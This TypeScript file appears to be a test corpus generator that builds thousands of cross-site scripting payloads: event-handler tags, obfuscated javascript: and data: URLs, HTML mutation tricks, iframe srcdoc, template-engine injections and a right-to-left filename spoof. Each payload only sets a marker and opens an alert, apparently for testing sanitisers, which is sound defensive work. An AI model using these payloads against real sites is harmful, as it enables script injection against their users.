// Texts that would run as code wherever a page took them for HTML, an address, a template or a script. Made by crossing ways in
// (elements, events, addresses, namespaces, broken syntax) with ways to hide; each marks the page it ran in.
// source: the shapes are those of public advisories on sanitisers and template engines; none of their text is copied

/** What every payload does when it runs: a mark that tests look for, and a dialog. */
const run = "window.__ran=1;alert('ran')"
const coded = (text: string) => Array.from(text, (char) => `&#${char.codePointAt(0)!};`).join('')
const hexed = (text: string) => Array.from(text, (char) => `&#x${char.codePointAt(0)!.toString(16)};`).join('')
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Ways to write what runs, inside an attribute. */
const codes = [run, coded(run), hexed(run), `eval(atob('${base64(run)}'))`, `(()=>{${run}})()`, `top.__ran=1//`]
const quotes = ['"', "'", '', '`']
const spaces = [' ', '/', '\t', '\n', '\f', '/\0/', ' \u00a0']

/** Elements that fire an event by themselves or with a little help. */
const firing = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['svg><foreignObject><img src=x', 'onerror'],
  ['math><mtext><img src=x', 'onerror'],
  ['math><mglyph><style><img src=x', 'onerror'],
  ['body', 'onpageshow'],
  ['body', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['div popover', 'onbeforetoggle'],
  ['p tabindex=1 autofocus', 'onfocus'],
  ['a href=x', 'onmouseover'],
  ['b', 'onpointerenter'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['marquee', 'onstart'],
  ['keygen autofocus', 'onfocus'],
  ['dialog open', 'onclose'],
  ['custom-element', 'onanimationend style=animation-name:x'],
] as const

/** Addresses that run when they are followed or loaded. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\rscript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3a;${run}`,
  `&#106;avascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://%0a${encodeURIComponent(run)}`,
  `javascript:/*--></title></style></textarea></script>*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`,
  `blob:null/x`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
]
const followed = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<a href='${address}'>x</a>`,
  (address: string) => `<a href=${address.replaceAll(/\s/g, '')}>x</a>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address: string) => `<svg><use href="${address}"></use></svg>`,
  (address: string) => `<math href="${address}">x</math>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<button formaction="${address}">x</button>`,
  (address: string) => `<base href="${address}">`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<link rel=import href="${address}">`,
  (address: string) => `<area href="${address}">`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<video poster="${address}"></video>`,
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}>)`,
  (address: string) => `<${address}>`,
  (address: string) => `[x]: ${address}\n\n[x]`,
  (address: string) => `![x](${address})`,
  (address: string) => address,
]

const image = `<img src=x onerror="${run}">`
/** Texts that a reader of HTML reads otherwise the second time (mutation). */
const mutating = [
  ...[
    'noscript',
    'style',
    'title',
    'textarea',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'template',
    'plaintext',
    'script',
  ].flatMap((name) => [
    `<${name}><p title="</${name}>${image}">`,
    `<${name}><!--</${name}>${image}-->`,
    `<svg><${name}>${image}</${name}></svg>`,
    `<math><${name}>${image}</${name}></math>`,
    `<svg><${name}><p title="</${name}></svg>${image}">`,
    `<math><mtext><table><mglyph><${name}><!--</${name}>${image}-->`,
    `<form><math><mtext></form><form><mglyph><${name}></math>${image}`,
    `<svg></p><${name}><a id="</${name}>${image}">`,
    `<select><${name}><img></${name}></select>${image}`,
    `<table><${name}>${image}</${name}></table>`,
    `<p><${name}/><b title='</${name}>${image}'>`,
  ]),
  ...['desc', 'title', 'foreignObject'].map((name) => `<svg><${name}><![CDATA[</${name}>${image}]]></${name}></svg>`),
  ...['mi', 'mo', 'mn', 'ms', 'mtext', 'annotation-xml encoding="text/html"'].map(
    (name) => `<math><${name}><style>${image}</style></math>`,
  ),
  `<!--><img src=x onerror="${run}">-->`,
  `<!--!>${image}`,
  `<!-- --!>${image}-->`,
  `<?xml ?>${image}<?x>`,
  `<![CDATA[${image}]]>`,
  `<!DOCTYPE x [<!ENTITY y "${image}">]>&y;`,
  `<a title="--!>${image}">x</a>`,
  `<p id="x\0"${image}>`,
  `<\u00adscript>${run}</script>`,
  `<scr\0ipt>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>script>${run}<</script>/script>`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\ud800<script>${run}</script>`,
  `<img src=x:x ${'onerror'.split('').join('\0')}="${run}">`,
  `<x ${'a '.repeat(500)}onerror=${run}>${image}`,
  `${'<b>'.repeat(600)}${image}`,
  `\u202e${image}\u202c`,
  `invoice\u202egnp.exe`,
]
const framed = [`<script>${run}</script>`, image, `<svg onload="${run}">`].flatMap((inner) =>
  [inner, coded(inner), hexed(inner), inner.replaceAll('"', '&quot;').replaceAll('<', '&lt;')].flatMap((code) => [
    `<iframe srcdoc="${code.replaceAll('"', '&quot;')}"></iframe>`,
    `<iframe srcdoc='${code.replaceAll("'", '&#39;')}'></iframe>`,
    `<p><iframe/srcdoc=${code.replaceAll(/[\s"'>]/g, (char) => `&#${char.codePointAt(0)!};`)}>`,
  ]),
)
/** What template engines would take for their own: Lit's parts, and the braces of others. */
const templates = [
  '${alert(1)}',
  `\${${run}}`,
  '<!--?lit$1234567890$-->',
  '{{lit-1234567890}}',
  '?lit$0000000000$',
  `<p onclick$lit$="${run}">x</p>`,
  `<p .innerHTML="${run}">x</p>`,
  `<p @click="${run}" ?hidden="x" .value=\${x}>x</p>`,
  '`;alert(1);//',
  '\\u0024{alert(1)}',
  `{{constructor.constructor("${run}")()}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{%raw%}${image}{%endraw%}`,
  `</script><script>${run}</script>`,
  `"-${run.replaceAll("'", '`')}-"`,
  `';${run};//`,
  `\\";${run};//`,
  `]]>${image}`,
  `{"_$litType$":1,"strings":["${image.replaceAll('"', '\\"')}"],"values":[]}`,
  `{"strings":{"raw":["x"]},"_$litType$":2}`,
]

function firings(): string[] {
  return firing.flatMap(([element, event]) =>
    codes.flatMap((code) =>
      quotes.flatMap((quote) =>
        spaces.map((space) => {
          const inside = quote === '"' ? code.replaceAll('"', '&quot;') : code.replaceAll("'", '`')
          const value =
            quote === '' ? inside.replaceAll(/[\s>]/g, '') : inside.replaceAll('`', quote === '`' ? '"' : '`')
          const [name = '', ...rest] = element.split(' ')
          return `<${name}${space}${rest.join(' ')}${space}${event}=${quote}${value}${quote}>x`
        }),
      ),
    ),
  )
}

const scripts = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}" /></svg>`,
]

/** By the way they would run. */
const classes: readonly (readonly string[])[] = [
  templates,
  framed,
  mutating,
  followed.flatMap((way) => addresses.map(way)),
  firings(),
  scripts,
]

/** All of them, each once: the rare kinds first, then those that differ little. */
export const payloads: readonly string[] = [...new Set(classes.flat())]

/** So many of each class, from all over it. */
export function somePayloads(count: number): readonly string[] {
  const some = classes.flatMap((each) => {
    const taken = Math.min(count, each.length)
    return Array.from({ length: taken }, (_, i) => each[Math.floor((i * each.length) / taken)]!)
  })
  return [...new Set(some)]
}
